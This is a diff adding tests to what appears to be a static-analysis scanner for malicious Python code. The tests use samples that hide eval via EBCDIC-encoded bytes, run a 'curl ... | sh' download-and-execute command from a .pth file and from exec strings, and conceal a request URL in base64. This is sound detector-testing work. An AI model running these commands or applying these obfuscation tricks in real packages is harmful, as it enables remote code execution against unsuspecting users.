@@ -7,12 +7,16 @@ import { before, test } from 'node:test';
 import { initAnalysis } from '../../src/analysis/api.ts';
 import { analyzePythonFile } from '../../src/analysis/python-file.ts';
 import type { Finding } from '../../src/model/result.ts';
+import { analyseFiles } from './in-memory-target.ts';
+import codecData from '../../data/python-codecs.json' with { type: 'json' };
 
 before(() => initAnalysis());
 
 function findings(source: string, path = 'demo/mod.py'): Finding[] {
   return analyzePythonFile(path, new TextEncoder().encode(source))[0].findings;
 }
+/** CPython's cp1026 (EBCDIC) decoding table, as recorded in data/python-codecs.json. */
+const EBCDIC: string = codecData.decodeOnly.cp1026.table;
 const codes = (name: string) => `[${[...name].map((c) => c.charCodeAt(0)).join(', ')}]`;
 
 test('__import__ and getattr fetched from globals()["__builtins__"] by chr()-spelt names, through a bound "".join', () => {
@@ -133,4 +137,55 @@ test('code in a constant string given to exec() is analysed as code that runs wh
     undefined,
     '120 spaces before harmless code',
   );
+});
+
+test('bytes decoded with an EBCDIC codec (cp1026) are read as Python reads them, and what they spell is disguised', () => {
+  const ebcdic = (text: string) =>
+    `b'${[...Buffer.from(text, 'latin1')].map((c) => `\\x${EBCDIC.indexOf(String.fromCharCode(c)).toString(16).padStart(2, '0')}`).join('')}'`;
+  const source = [
+    'import builtins',
+    `cc = getattr(builtins, ${ebcdic('eval')}.decode('cp1026'))`,
+    `cc(${ebcdic("exec(__import__('requests').get('https://paste.example.invalid/raw').text)")}.decode('cp1026'))`,
+  ].join('\n');
+  const files = analyzePythonFile('demo/mod.py', new TextEncoder().encode(source));
+  const rules = files[0].findings.map((f) => f.rule);
+  assert.ok(rules.includes('obfuscated-builtin'), 'eval fetched by an EBCDIC-spelt name');
+  assert.ok(rules.includes('exec-decoded-payload'), 'the EBCDIC payload is decoded and rescanned');
+  const inner = files.flatMap((file) => file.findings).find((f) => f.rule === 'download-execute');
+  assert.equal(inner?.severity, 'critical');
+});
+
+test('a .pth file that execs code written out in a string is judged by what that code does', async () => {
+  const harmless = await analyseFiles({
+    'cov.pth':
+      "import os, sys;exec('if \\'COV_SOURCE\\' in os.environ:\\n try:\\n  from cov.embed import init\\n  init()\\n except Exception:\\n  pass\\n')\n",
+  });
+  assert.equal(harmless.files[0].findings.find((f) => f.rule === 'pth-executes-code')?.severity, 'low');
+  const launcher = await analyseFiles({
+    'cov.pth': "import os;exec('os.system(\\'curl -s http://192.0.2.9/x | sh\\')')\n",
+  });
+  assert.equal(launcher.files[0].findings.find((f) => f.rule === 'pth-executes-code')?.severity, 'high');
+});
+
+test('many exec("...") lines cost one rescan, spend no budget, and the last of them is still read as code', async () => {
+  const lines = Array.from({ length: 60 }, (_, index) => `exec("value_${index} = ${index}")`);
+  lines.push('exec("import os\\nos.system(\'curl -s http://192.0.2.9/x | sh\')")');
+  const target = await analyseFiles({ 'pkg/mod.py': lines.join('\n') });
+  assert.equal(target.unaudited, undefined, 'no budget is spent on code written out in the file');
+  const virtual = target.files.filter((file) => file.path.startsWith('pkg/mod.py#'));
+  assert.equal(virtual.length, 1, 'one virtual file for the constant strings run on import');
+  assert.equal(virtual[0].findings.find((f) => f.rule === 'download-execute')?.severity, 'critical');
+});
+
+test('a comment naming a decoded host does not make it written: only string literals count', () => {
+  const url = Buffer.from('https://drop.example.invalid/raw/settings').toString('base64');
+  const source = [
+    '# mirror: https://drop.example.invalid (see README)',
+    'import base64, requests',
+    'def settings():',
+    `    return requests.get(base64.b64decode("${url}").decode())`,
+  ].join('\n');
+  const call = findings(source).find((f) => f.rule === 'egress-network-call');
+  assert.equal(call?.severity, 'high');
+  assert.match(call!.message, /a host the file never writes/);
 });
